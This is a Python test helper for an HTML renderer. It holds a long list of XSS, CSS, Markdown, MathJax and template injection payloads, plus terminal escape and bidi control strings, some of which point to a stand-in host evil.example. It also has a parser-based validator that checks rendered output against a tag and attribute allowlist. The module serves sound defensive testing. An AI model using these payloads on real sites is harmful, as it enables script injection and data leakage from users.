"""Payloads that remote text may hold, and what a browser would make of a piece of HTML."""

from __future__ import annotations

import json
import re
import unicodedata
from html.parser import HTMLParser

MARKUP = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "</td><script>alert(1)</script>",
    "</div></div></div><h1>gone</h1>",
    "</span></b></details>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0>",
    "<object data=//evil.example>",
    "<form action=//evil.example><input>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></mtext></math>",
    "<!--",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?>",
    "</script><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    ";background:url(//evil.example/x)",
    "red;}</style><script>alert(1)</script>",
    "x\" style=\"background:url('//evil.example')",
    'id="notebook" class="jp-Cell"',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:x",
    "//evil.example/x",
    "https://evil.example/x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&amp;lt;img&gt;",
    "&",
    "&quot;",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\unicode{<img src=x onerror=alert(1)>}$$",
    "\\(\\href{javascript:alert(1)}{x}\\)",
    "\\[x\\]",
    "[x](javascript:alert(1))",
    "![x](//evil.example/x)",
    "`<b>`",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<%= 7*7 %>",
    "＜script＞",
    "\u2028<script>\u2029",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<img\tsrc=x\nonerror=alert(1)>",
    # event handlers and elements that browsers know besides
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a onpointerenter=alert(1)>x</a>",
    "<img src=x:x onerror\x0b=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml;base64,PHN2Zz4=#x>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<title><img src=x onerror=alert(1)></title>",
    "<embed src=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<dialog open onclose=alert(1)>",
    "<img src=//evil.example/beacon>",
    "<img srcset=//evil.example/beacon>",
    # what was opened and is not closed
    "<b",
    "<img src='",
    '<div style="',
    "<a href=`",
    "</",
    "<",
    ">",
    "<!DOCTYPE html>",
    "]]>",
    "--!>",
    "<!-->",
    # inside a style, an attribute, a URL
    "expression(alert(1))",
    "x:expression(alert(1))",
    "behavior:url(x.htc)",
    "-moz-binding:url(//evil.example/x.xml#x)",
    "url(javascript:alert(1))",
    "}*{display:none}",
    "/**/;color:red",
    "java\tscript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "&#x6a;avascript:alert(1)",
    "feed:javascript:alert(1)",
    # entities, half and whole
    "&lt",
    "&#x3c;b&#x3e;",
    "&#0;",
    "&#x1F;&#xD800;",
    "&NotEqualTilde;",
    "&nbsp;&zwj;&rlm;",
    # what Markdown, MathJax and templates would read
    "**bold** _it_ ~~x~~",
    "# heading",
    "<details><summary>x</summary>",
    "| a | b |\n|---|---|",
    "\\begin{equation}\\href{javascript:alert(1)}{x}\\end{equation}",
    "\\require{html}\\style{x}{y}",
    "$\\text{</script><script>alert(1)}$",
    "[[x]] {% raw %} {{ x }}",
    "%(x)s {0} {x!r}",
]
CONTROLS = [
    "\x1b[31mred",
    "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x9b31m",
    "\x85\x90\x9d",
    "over\rwritten",
    "back\x08\x08space",
    "two\nlines",
    "\x00\x01\x02\x7f",
    "\u202egnp.exe",
    "\u2066hidden\u2069",
    "zero\u200bwidth\ufeff",
    "\u061c\u200e\u200f",
    "\u2028\u2029",
]
SURROGATES = ["lone \ud800", "\udfff\udcff", "<\ud83d>"]
PAYLOADS = [*MARKUP, *CONTROLS, *SURROGATES]
HARMLESS = "harmless"

ALLOWED = {
    *("div", "span", "b", "bdi", "details", "summary"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
CLASSES = {"didlab tex2jax_ignore mathjax_ignore", "dataframe"}


class Reader(HTMLParser):
    """What a browser would make of it: elements with attributes, and the text."""

    def __init__(self, source: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, tuple[tuple[str, str | None], ...]]] = []
        self.closed: list[str] = []
        self.text = ""
        self.other: list[str] = []
        self.feed(source)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, tuple(sorted(attrs))))

    def handle_endtag(self, tag: str) -> None:
        self.closed.append(tag)

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_decl(self, decl: str) -> None:
        self.other.append(decl)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)

    def unknown_decl(self, data: str) -> None:
        self.other.append(data)


def read(source: str) -> Reader:
    """Parse, and hold what holds for every piece of HTML that didlab makes."""
    json.dumps({"text/html": source}, ensure_ascii=False).encode()
    clean(source)
    found = Reader(source)
    assert found.other == []
    assert sorted(found.closed) == sorted(tag for tag, _ in found.elements)
    for tag, attributes in found.elements:
        assert tag in ALLOWED
        for name, value in attributes:
            assert name in ("style", "class", "open"), (tag, name)
            if name == "class":
                assert value in CLASSES
            if name == "style":
                assert value is not None
                # Ours only: names, numbers and colours.
                assert re.fullmatch(r"[a-z0-9:;.,()% -]+", value)
                assert "url" not in value
    return found


def clean(shown: str) -> None:
    """No character that a terminal or browser would obey."""
    for char in shown:
        kind = unicodedata.category(char)
        assert kind not in ("Cc", "Cs", "Zl", "Zp"), repr(char)
        assert char not in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u061c"
        assert char not in "\u200b\u200c\u200d\u200e\u200f\ufeff"


_TAG = re.compile(r"<[^<>]*>")
_ENTITY = re.compile(r"&(?:amp|lt|gt|quot|#39|#96|#36|#92);")


def skeleton(page: str) -> list[str]:
    """The tags of a page, after a look that the text between them is nothing but text.

    `read` says the same with a parser, ten times slower.
    """
    between = _TAG.sub("", page)
    for char in "<>\"'`$\\":
        assert char not in between, char
    assert "&" not in _ENTITY.sub("", between)
    return _TAG.findall(page)
